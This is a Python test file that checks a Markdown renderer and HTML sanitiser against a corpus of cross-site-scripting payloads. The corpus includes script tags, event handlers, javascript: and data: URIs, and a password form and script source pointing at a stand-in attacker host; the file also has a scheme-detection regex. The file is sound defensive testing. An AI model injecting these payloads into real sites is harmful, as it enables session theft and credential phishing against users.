"""Authored text can never run script in the host app: a corpus of hostile inputs."""

import re
from html.parser import HTMLParser

import pytest

from wegwijs.content.rendering import ALLOWED_TAGS, plain_text, render_markdown, sanitise_html

HOSTILE = [
    # raw HTML in Markdown
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "before <script>alert(1)</script> after",
    "<img src=x onerror=alert(1)>",
    "<img src=https://ok.example/a.png onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">cover the page</div>',
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<p onclick=alert(1)>click me",
    "<img src=x onerror=alert(1)",  # unclosed
    "<a href='javascript:alert(1)'",  # unclosed
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)</script>-->",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    # Markdown that produces links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](jav&#x61;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: <javascript:alert(1)> "title"',
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/a.png "title\\" onerror=\\"alert(1)")',
    '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")',
    "[x](//evil.example/path)",
    "![x](http://insecure.example/a.png)",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <iframe src=https://evil.example>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
]

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "background",
    "data",
    "xlink:href",
}
BAD_SCHEMES = re.compile(r"^\s*(javascript|data|vbscript)\s*:", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects every tag and attribute as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_safe(html: str) -> None:
    assert "<script" not in html.lower()
    # Text keeps `<` escaped as `&lt;`, so every `<` left is markup; inside it, only quoted
    # values may mention a handler (a title saying "onclick=" is text, not an attribute).
    for markup in re.findall(r"<[^>]*>?", html):
        unquoted = re.sub(r'"[^"]*"', '""', markup)
        assert not re.search(r"\son\w+\s*=", unquoted, re.IGNORECASE), markup
    found = inspect(html)
    assert set(found.tags) <= ALLOWED_TAGS, found.tags
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name != "style", (tag, name)
        if name in URL_ATTRIBUTES:
            assert not BAD_SCHEMES.match(value), (tag, name, value)
            assert value.startswith(("https://", "http://", "mailto:")), (tag, name, value)
        if tag == "img" and name == "src":
            assert value.startswith("https://"), value
    assert not {"iframe", "form", "base", "meta", "svg", "style", "object"} & set(found.tags)


def test_the_corpus_is_big_enough() -> None:
    assert len(HOSTILE) >= 40
    assert len(set(HOSTILE)) == len(HOSTILE)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_to_safe_html(source: str) -> None:
    assert_safe(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_is_sanitised_even_without_markdown(source: str) -> None:
    """The allow-list holds on its own, should HTML ever reach it another way."""
    assert_safe(sanitise_html(source))


def test_the_checker_catches_what_it_looks_for() -> None:
    """Guard against a corpus that passes because the checks are blind."""
    for unsafe in (
        "<script>x</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x61;script:alert(1)">x</a>',
        '<img src="data:image/png;base64,AA">',
        '<img src="http://insecure.example/a.png">',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        '<b onmouseover="x">y</b>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


def test_raw_html_in_markdown_is_shown_as_text() -> None:
    assert render_markdown("Use <b>bold</b>") == "<p>Use &lt;b&gt;bold&lt;/b&gt;</p>"


def test_links_open_in_a_new_tab_without_opener() -> None:
    found = inspect(render_markdown("[Handboek](https://intranet.example/handboek)"))
    assert found.attributes == [
        ("a", "href", "https://intranet.example/handboek"),
        ("a", "target", "_blank"),
        ("a", "rel", "noopener noreferrer"),
    ]


def test_an_author_target_or_rel_is_replaced() -> None:
    html = sanitise_html('<a href="https://x.example" target="_self" rel="opener">x</a>')
    assert {name: value for _, name, value in inspect(html).attributes} == {
        "href": "https://x.example",
        "target": "_blank",
        "rel": "noopener noreferrer",
    }


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[mail](mailto:support@example.com)", "mailto:support@example.com"),
        ("[http](http://example.com/a?b=1)", "http://example.com/a?b=1"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("[rel](/relative/path)", None),
        ("[ftp](ftp://example.com/file)", None),
    ],
)
def test_link_schemes(source: str, href: str | None) -> None:
    hrefs = [
        value for _, name, value in inspect(render_markdown(source)).attributes if name == "href"
    ]
    assert hrefs == ([href] if href else [])


def test_https_images_keep_their_text_alternative() -> None:
    html = render_markdown('![The New button](https://cdn.example/new.png "New")')
    assert inspect(html).attributes == [
        ("img", "src", "https://cdn.example/new.png"),
        ("img", "alt", "The New button"),
        ("img", "title", "New"),
    ]


def test_ordinary_formatting_survives() -> None:
    html = render_markdown(
        "# Claims\n\n## Costs\n\n### Deeper\n\nA **strong** and *em* `code`.\n\n"
        "- one\n- two\n\n1. first\n\n> quote\n\n---\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"
    )
    assert inspect(html).tags == [
        "h3", "h4", "h4", "p", "strong", "em", "code", "ul", "li", "li", "ol", "li",
        "blockquote", "p", "hr", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
    ]  # fmt: skip
    assert "style" not in html


def test_empty_bodies_render_to_nothing() -> None:
    assert render_markdown("") == ""
    assert render_markdown("  \n ") == ""


@pytest.mark.parametrize(
    ("raw", "plain"),
    [
        ("  Submit   a\nclaim\t ", "Submit a claim"),
        ("Bell\x07 and\x00 null", "Bell and null"),
        ("evil\u202egnp.exe", "evilgnp.exe"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("<b>not html</b>", "<b>not html</b>"),
        ("line\u2028separator", "line separator"),
    ],
)
def test_plain_text(raw: str, plain: str) -> None:
    assert plain_text(raw, limit=200) == plain


def test_plain_text_is_cut_at_the_limit() -> None:
    assert plain_text("abc def", limit=4) == "abc"
    assert len(plain_text("x" * 500, limit=200)) == 200
